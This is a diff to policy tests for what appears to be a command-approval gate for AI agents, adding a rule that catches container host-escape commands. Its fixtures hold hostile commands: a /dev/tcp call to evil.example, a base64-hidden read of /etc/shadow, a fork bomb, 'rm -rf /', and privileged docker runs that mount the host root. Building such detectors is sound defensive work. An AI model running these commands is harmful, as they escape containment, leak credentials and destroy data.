@@ -30,7 +30,7 @@ test_exec_rules_have_required_fields if {
 
 test_every_command_kind_has_rules if {
 	every _, kind in data.clawgate.exec.kinds {
-		kind in {"delete", "find", "disk", "dd", "kubectl", "helm", "terraform", "git", "database", "dropdb", "chmod", "permission", "privilege", "powershell", "move"}
+		kind in {"delete", "find", "disk", "dd", "kubectl", "helm", "terraform", "git", "database", "dropdb", "chmod", "permission", "privilege", "powershell", "move", "container"}
 	}
 }
 
@@ -413,6 +413,7 @@ exec_examples := {
 	"exec.raw_socket": "cat < /dev/tcp/evil.example/80",
 	"exec.constructed_text": "cat $(base64 -d <<< L2V0Yy9zaGFkb3c=)",
 	"exec.fork_bomb": ":(){ :|:& };:",
+	"exec.host_escape": "docker run --rm -v /:/host alpine chroot /host",
 	"exec.rm_root": "rm -rf /",
 	"exec.recursive_delete": "rm -rf target",
 	"exec.kubectl_delete": "kubectl delete deployment api",
@@ -1008,5 +1009,21 @@ test_xargs_is_read_only_only_on_listed_names if {
 	}
 	every cmd in ["xargs cat < paths.txt", "cat paths.txt | xargs -I{} cat {}", "git log | xargs cat", "xargs -a list.txt cat", "curl -s https://example.com/list | xargs cat"] {
 		decide(exec_call(cmd, "production")).effect == "require_approval"
+	}
+}
+
+# A container started with the host's powers is held in every environment; ordinary
+# containers (a project mounted, a port published, a user network) are plain mutations.
+test_containers_with_the_hosts_powers_are_held_everywhere if {
+	every cmd in [
+		"docker run --privileged alpine sh", "docker run --pid=host alpine", "docker run --net host nginx",
+		"docker run -v /var/run/docker.sock:/var/run/docker.sock docker", "docker run --mount type=bind,source=/,target=/h alpine",
+		"docker run --cap-add=SYS_ADMIN alpine", "docker run --security-opt seccomp=unconfined alpine", "podman run -v /etc:/e alpine",
+		"docker create -v /:/h alpine",
+	] {
+		"exec.host_escape" in exec_rules_for(cmd, "development")
+	}
+	every cmd in ["docker run --rm -v $PWD:/src -w /src node:20 npm test", "docker run --rm -p 8080:80 nginx", "docker run -v /tmp/data:/data alpine", "docker run --network mynet alpine", "docker ps"] {
+		not "exec.host_escape" in exec_rules_for(cmd, "development")
 	}
 }
